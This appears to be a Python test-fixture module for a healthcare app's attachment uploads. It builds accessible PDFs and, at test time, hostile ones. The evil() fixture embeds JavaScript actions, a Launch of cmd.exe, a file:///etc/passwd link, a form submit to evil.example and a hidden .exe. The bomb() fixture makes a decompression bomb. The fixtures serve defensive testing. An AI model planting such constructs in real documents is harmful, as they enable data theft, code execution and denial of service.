"""Files for the tests of attachments: good ones, and hostile ones made on the spot so that nothing dangerous lies in the project."""

from functools import cache
from io import BytesIO
from typing import Any
from zlib import compress

import pikepdf
import typst
from pikepdf import Array, Dictionary, Name
from PIL import Image

from kallelse.attachments import actions
from kallelse.attachments.actions import Hand
from kallelse.attachments.models import Entry
from kallelse.connections.models import CareUnit
from kallelse.kit import clock

HAND = Hand("staff:TSTNMT2321000156-1001", "TSTNMT2321000156-1001", "TSTNMT2321000156-K101U1")


@cache
def tagged(title: str = "Inför din undersökning", pages: int = 1) -> bytes:
    """An accessible PDF."""
    text = "\n#pagebreak()\n".join(f"= Rubrik {page}\nÄt ingenting efter midnatt." for page in range(1, pages + 1))
    source = f'#set document(title: "{title}")\n#set text(lang: "sv")\n{text}'.encode()
    made = typst.Compiler().compile(source, format="pdf", pdf_standards=["ua-1"])
    assert isinstance(made, bytes)
    return made


@cache
def untagged(pages: int = 1, text: str = "Hej") -> bytes:
    """A PDF with text and fonts, without tags, language and title."""
    pdf = pikepdf.open(BytesIO(tagged(text, pages)))
    for key in (Name.StructTreeRoot, Name.MarkInfo, Name.Lang):
        del pdf.Root[key]
    del pdf.trailer[Name.Info]
    return saved(pdf)


def changed(**root: Any) -> tuple[pikepdf.Pdf, Any]:
    """A good PDF opened, with entries put in its root, to be made hostile."""
    pdf = pikepdf.open(BytesIO(tagged()))
    for key, value in root.items():
        pdf.Root[f"/{key}"] = value
    return pdf, pdf.Root


def saved(pdf: pikepdf.Pdf, **how: Any) -> bytes:
    """The bytes of a PDF."""
    out = BytesIO()
    pdf.save(out, **how)
    return out.getvalue()


def script() -> Dictionary:
    """An action that runs JavaScript."""
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


@cache
def evil() -> bytes:
    """A PDF with every kind of thing that acts or reaches out, in many places."""
    pdf, root = changed(OpenAction=script(), AA=Dictionary(WC=script()))
    page = pdf.pages[0].obj
    page[Name.AA] = Dictionary(O=script())
    link = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": Array([0, 0, 9, 9])}
    bad = [
        Dictionary(S=Name.Launch, F="cmd.exe"),
        Dictionary(S=Name.URI, URI="file:///etc/passwd"),
        Dictionary(S=Name.URI, URI="http://tracker.example/"),
        Dictionary(S=Name.URI, URI="javascript:alert(1)"),
        Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="https://evil.example/take")),
        Dictionary(S=Name.ImportData, F="x.fdf"),
        Dictionary(S=Name.GoToR, F="other.pdf", D=Array([0, Name.Fit])),
        Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=script()),
    ]
    annots = [pdf.make_indirect(Dictionary(**link, A=action)) for action in bad]
    place = Array([0, 0, 9, 9])
    annots.append(pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=place, FS=Dictionary(F="x"))))
    annots.append(pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=place)))
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T="x", Rect=Array([0, 0, 9, 9]), A=script(), AA=Dictionary(K=script())
    )  # fmt: skip
    annots.append(pdf.make_indirect(field))
    page[Name.Annots] = Array(annots)
    root[Name.AcroForm] = Dictionary(Fields=Array([annots[-1]]), XFA=pdf.make_stream(b"<xdp/>"), CO=Array([annots[-1]]))
    root[Name.Names] = Dictionary(JavaScript=Dictionary(Names=Array(["x", pdf.make_indirect(script())])))
    pdf.attachments["hidden.exe"] = b"MZ"
    return saved(pdf)


@cache
def bomb() -> bytes:
    """A small PDF whose page unpacks to half a gigabyte."""
    pdf, _ = changed()
    stream = pdf.make_stream(b"")
    stream.write(compress(b" " * 500_000_000, 1), filter=Name.FlateDecode)
    pdf.pages[0].obj[Name.Contents] = stream
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def photo(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **more: Any) -> bytes:
    """A picture, with the place it was taken at when `exif` is given."""
    out = BytesIO()
    Image.new("RGB", size, "teal").save(out, kind, **more)
    return out.getvalue()


def uploaded(unit: CareUnit, body: bytes | None = None, title: str = "Inför din undersökning") -> Entry:
    """A file in a unit's collection; a refusal fails the test."""
    description = "" if body is None or body.startswith(b"%PDF") else "En karta med vägen från bussen."
    made = actions.upload(unit, HAND, title, "sv", tagged() if body is None else body, clock.now(), description=description)
    assert isinstance(made, Entry), made
    return made
